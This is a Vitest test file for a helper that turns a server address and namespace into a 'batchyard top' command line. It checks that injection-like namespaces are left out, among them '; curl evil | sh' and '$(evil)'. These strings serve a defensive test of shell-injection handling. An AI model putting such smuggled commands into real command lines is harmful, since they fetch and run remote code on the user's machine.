import { describe, expect, it } from 'vitest';
import { toCommandLine } from './command-line.ts';

describe('toCommandLine', () => {
  it('names server and namespace only where they are not the usual ones', () => {
    expect(toCommandLine('batchyard top', 'http://127.0.0.1:7700', 'default')).toBe(
      'batchyard top',
    );
    expect(toCommandLine('batchyard top', 'https://yard.example', 'films')).toBe(
      'batchyard top --server https://yard.example --namespace films',
    );
  });

  it.each(['; curl evil | sh', '$(evil)', '-x', "a'b", 'a\nb', ''])(
    'leaves out a namespace that a shell could misread: %j',
    (namespace) => {
      expect(toCommandLine('batchyard top', 'http://localhost:7700', namespace)).toBe(
        'batchyard top',
      );
    },
  );
});
